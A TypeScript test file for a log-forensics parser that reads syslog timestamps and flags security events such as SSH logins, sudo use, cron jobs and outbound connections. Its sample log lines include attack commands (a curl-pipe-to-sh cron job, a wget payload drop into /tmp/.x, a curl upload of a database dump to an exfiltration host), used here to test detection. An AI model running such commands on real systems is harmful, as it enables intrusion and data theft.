// Syslog lines in the three forms Linux machines write (RFC 3164 local time, RFC 5424, RFC 3339 file format), the
// events recognised in them, and the plain-text rule for anything a tenant's machine wrote.
import { describe, expect, test } from 'vitest';
import { recogniseEvents } from '../../domain/forensics/events';
import { plainText } from '../../domain/forensics/plain-text';
import { parseIsoTimestamp, parseSyslogLine, zonedToUtcMs, type SyslogLine } from '../../domain/forensics/syslog';

const iso = (ms: number): string => new Date(ms).toISOString();

function parsed(line: string, options = {}): SyslogLine {
  const p = parseSyslogLine(line, options);
  if (!p.ok) throw new Error(`expected a syslog line: ${p.reason}`);
  return p;
}

describe('timestamps', () => {
  test('reads RFC 3164 in the machine\'s zone and year, across daylight saving time', () => {
    const summer = parsed('Jun 12 05:14:07 web-1 sshd[2131]: Accepted password for deploy', { timeZone: 'Europe/Berlin', year: 2026 });
    expect(iso(summer.atMs)).toBe('2026-06-12T03:14:07.000Z');
    expect(summer).toMatchObject({ format: 'rfc3164', host: 'web-1', program: 'sshd', pid: '2131', message: 'Accepted password for deploy' });
    const winter = parsed('Jan  5 10:00:00 web-1 cron[1]: x', { timeZone: 'Europe/Berlin', year: 2026 });
    expect(iso(winter.atMs)).toBe('2026-01-05T09:00:00.000Z');
    const tokyo = parsed('Mar  1 09:00:00 h p: x', { timeZone: 'Asia/Tokyo', year: 2026 });
    expect(iso(tokyo.atMs)).toBe('2026-03-01T00:00:00.000Z');
  });

  test('picks the first instant when the clock goes back, and the old offset in the hour it skips', () => {
    const wall = (s: string): number => Date.parse(`${s}Z`);
    expect(iso(zonedToUtcMs(wall('2026-10-25T02:30:00'), 'Europe/Berlin'))).toBe('2026-10-25T00:30:00.000Z');
    expect(iso(zonedToUtcMs(wall('2026-03-29T02:30:00'), 'Europe/Berlin'))).toBe('2026-03-29T01:30:00.000Z');
    expect(iso(zonedToUtcMs(wall('2026-11-01T01:30:00'), 'America/Los_Angeles'))).toBe('2026-11-01T08:30:00.000Z');
  });

  test('infers the year from the collection time, so December lines read in January fall in the year before', () => {
    const referenceTime = new Date('2027-01-01T06:00:00Z');
    expect(iso(parsed('Dec 31 23:59:59 h p: x', { referenceTime }).atMs)).toBe('2026-12-31T23:59:59.000Z');
    expect(iso(parsed('Jan  1 00:00:03 h p: x', { referenceTime }).atMs)).toBe('2027-01-01T00:00:03.000Z');
  });

  test('refuses RFC 3164 without a year or collection time, an impossible date, and an unknown zone', () => {
    expect(parseSyslogLine('Jun 12 05:14:07 h p: x')).toEqual({ ok: false, reason: expect.stringMatching(/no year/) });
    expect(parseSyslogLine('Feb 29 05:14:07 h p: x', { year: 2026 })).toEqual({ ok: false, reason: 'Feb 29 2026 is not a date' });
    expect(parseSyslogLine('Feb 29 05:14:07 h p: x', { year: 2028 }).ok).toBe(true);
    expect(parseSyslogLine('Jun 12 05:14:07 h p: x', { year: 2026, timeZone: 'Mars/Olympus' })).toEqual({ ok: false, reason: "'Mars/Olympus' is not an IANA time zone" });
  });

  test('reads RFC 5424 with structured data, escaped brackets, a BOM and nil fields', () => {
    const line = parsed('<38>1 2026-01-01T00:00:05.250+01:00 bastion sshd 907 - [origin ip="10.9.8.7"][meta note="a \\] b"] \ufeffFailed password');
    expect(line).toMatchObject({ format: 'rfc5424', host: 'bastion', program: 'sshd', pid: '907', message: 'Failed password' });
    expect(iso(line.atMs)).toBe('2025-12-31T23:00:05.250Z');
    expect(parsed('<4>1 2026-06-12T03:30:01.660Z db-1 kernel - - - hello')).toMatchObject({ program: 'kernel', message: 'hello' });
    expect(parsed('<4>1 2026-06-12T03:30:01.660Z db-1 - - - -')).not.toHaveProperty('program');
    expect(parseSyslogLine('<38>1 - bastion sshd 908 - - no time').ok).toBe(false);
    expect(parseSyslogLine('<38>1 2026-01-01T00:00:07Z bastion sshd 909 - [broken').ok).toBe(false);
    expect(parseSyslogLine('<38>1 2026-13-01T00:00:07Z bastion sshd 909 - - bad month').ok).toBe(false);
  });

  test('reads RFC 3339 file lines with microseconds and any offset, and ISO stamps without one in the zone given', () => {
    const line = parsed('2026-06-12T03:20:12.481203+00:00 db-1 sshd[1822]: Accepted password for deploy from 10.0.1.4 port 39812 ssh2');
    expect(iso(line.atMs)).toBe('2026-06-12T03:20:12.481Z');
    expect(line).toMatchObject({ format: 'rfc3339', host: 'db-1', program: 'sshd', pid: '1822' });
    expect(iso(parseIsoTimestamp('2026-06-12T05:20:12-0230') as number)).toBe('2026-06-12T07:50:12.000Z');
    expect(iso(parseIsoTimestamp('2026-06-12T05:20:12', 'Europe/Berlin') as number)).toBe('2026-06-12T03:20:12.000Z');
    expect(typeof parseIsoTimestamp('2026-06-12T05:20:12+25:00')).toBe('string');
  });

  test('gives a reason, never an exception, for anything else', () => {
    for (const line of ['', 'garbage', '<999', 'Jun', 'Jun 12', '2026-06-12T', '2026-06-12T03:20:12Z', '\u0000\u0001\u0002', 'Foo 12 05:14:07 h p: x']) {
      const p = parseSyslogLine(line, { year: 2026 });
      expect(p.ok, line).toBe(false);
    }
  });
});

describe('events', () => {
  const at = { year: 2026, timeZone: 'UTC' };
  const kinds = (line: string) => recogniseEvents(parsed(line, at)).map((e) => e.kind);

  test('recognises failed, invalid-user and accepted SSH logins with user and source', () => {
    const [failed] = recogniseEvents(parsed('Jun 12 05:12:05 web-1 sshd[2101]: Failed password for invalid user admin from 198.51.100.201 port 50002 ssh2', at));
    expect(failed).toMatchObject({ kind: 'ssh_login_failed', details: { user: 'admin', invalidUser: 'yes', sourceIp: '198.51.100.201', sourcePort: '50002', method: 'password' } });
    expect(kinds('Jun 12 05:12:01 web-1 sshd[2101]: Invalid user admin from 198.51.100.201 port 50002')).toEqual(['ssh_invalid_user']);
    const [accepted] = recogniseEvents(parsed('Jun 12 06:40:12 web-1 sshd[2577]: Accepted publickey for sysadm from 2001:db8:dead::77 port 52914 ssh2: ED25519 SHA256:x', at));
    expect(accepted).toMatchObject({ kind: 'ssh_login_accepted', details: { user: 'sysadm', sourceIp: '2001:db8:dead::77', method: 'publickey' } });
    expect(kinds('Jun 12 05:12:03 web-1 sshd[2101]: pam_unix(sshd:auth): authentication failure; rhost=198.51.100.201')).toEqual([]);
  });

  test('recognises sudo, allowed and refused, and the download inside the command', () => {
    const events = recogniseEvents(parsed('Jun 12 05:15:02 web-1 sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/wget -q -O /tmp/.x/k http://dl.cdn-updates.example.net/k', at));
    expect(events.map((e) => e.kind)).toEqual(['sudo_command', 'download']);
    expect(events[0]).toMatchObject({ details: { user: 'deploy', runAs: 'root', outcome: 'allowed', cwd: '/home/deploy' } });
    expect(events[1]).toMatchObject({ details: { tool: 'wget', host: 'dl.cdn-updates.example.net', direction: 'download' } });
    const [refused] = recogniseEvents(parsed('Jun 12 05:22:40 web-1 sudo:     www-data : user NOT in sudoers ; TTY=unknown ; PWD=/var/www ; USER=root ; COMMAND=/bin/sh', at));
    expect(refused).toMatchObject({ kind: 'sudo_command', details: { user: 'www-data', outcome: 'refused', reason: 'user NOT in sudoers', command: '/bin/sh' } });
  });

  test('recognises cron jobs, crontab replacement, new users and group changes', () => {
    expect(kinds('Jun 12 05:20:01 web-1 CRON[2441]: (root) CMD (/tmp/.x/kworkerd --daemon >/dev/null 2>&1)')).toEqual(['cron_job']);
    expect(kinds('Jun 12 05:20:01 web-1 CRON[2441]: (root) CMD (curl -fsS http://192.0.2.150:8080/b | sh)')).toEqual(['cron_job', 'download']);
    expect(kinds('Jun 12 05:17:01 web-1 CRON[1893]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)')).toEqual([]);
    expect(kinds('Jun 12 05:16:05 web-1 crontab[2310]: (root) REPLACE (root)')).toEqual(['crontab_changed']);
    expect(kinds('Jun 12 05:16:05 web-1 crontab[2310]: (root) LIST (root)')).toEqual([]);
    const [user] = recogniseEvents(parsed('Jun 12 05:15:38 web-1 useradd[2291]: new user: name=sysadm, UID=1002, GID=1002, home=/home/sysadm, shell=/bin/bash, from=/dev/pts/0', at));
    expect(user).toMatchObject({ kind: 'user_added', details: { user: 'sysadm', uid: '1002', shell: '/bin/bash' } });
    expect(kinds("Jun 12 05:15:44 web-1 usermod[2297]: add 'sysadm' to group 'sudo'")).toEqual(['user_added_to_group']);
    expect(kinds("Jun 12 05:15:44 web-1 usermod[2297]: add 'sysadm' to shadow group 'sudo'")).toEqual([]);
  });

  test('recognises outbound connections in firewall logs and leaves inbound ones out', () => {
    const [out] = recogniseEvents(parsed('Jun 12 05:20:02 web-1 kernel: [812962.771905] [UFW ALLOW] IN= OUT=eth0 SRC=10.0.1.4 DST=192.0.2.150 LEN=60 PROTO=TCP SPT=43122 DPT=4444 WINDOW=64240', at));
    expect(out).toMatchObject({ kind: 'outbound_connection', summary: 'UFW ALLOW: TCP 10.0.1.4:43122 -> 192.0.2.150:4444', details: { destinationPort: '4444' } });
    expect(kinds('Jun 12 05:09:44 web-1 kernel: [1.1] [UFW BLOCK] IN=eth0 OUT= SRC=198.51.100.201 DST=10.0.1.4 LEN=44 PROTO=TCP SPT=61000 DPT=3389')).toEqual([]);
  });

  test('tells a curl upload from a download, and ignores words that only contain "curl"', () => {
    const [up] = recogniseEvents(parsed('Jun 12 03:23:30 db-1 sudo:   deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/curl -s -T /tmp/d.sql.gz https://drop.exfil-store.example.org/u/7f3a', at)).filter((e) => e.kind === 'download');
    expect(up).toMatchObject({ summary: 'curl upload to https://drop.exfil-store.example.org/u/7f3a', details: { direction: 'upload' } });
    expect(kinds('Jun 12 03:23:30 db-1 app[1]: libcurl https://example.org/ fetched')).toEqual([]);
  });
});

describe('plain text', () => {
  test('shows control characters, line breaks and bidi controls as escapes', () => {
    expect(plainText('a\u001b[31mb\r\nc\u202ed\u0000e\u2028f\u200bg')).toBe('a\\x1b[31mb\\r\\nc\\u202ed\\x00e\\u2028f\\u200bg');
    expect(plainText('tab\tstays, ünïcödé and 😀 stay')).toBe('tab\tstays, ünïcödé and 😀 stay');
    expect(plainText('x\ud800y')).toBe('x\\ud800y');
  });

  test('clips long text without splitting a surrogate pair', () => {
    expect(plainText('abcdef', 4)).toBe('abc…');
    const clipped = plainText(`ab${'😀'.repeat(5)}`, 4);
    expect(clipped).toBe('ab…');
    expect(clipped.length).toBeLessThanOrEqual(4);
  });
});
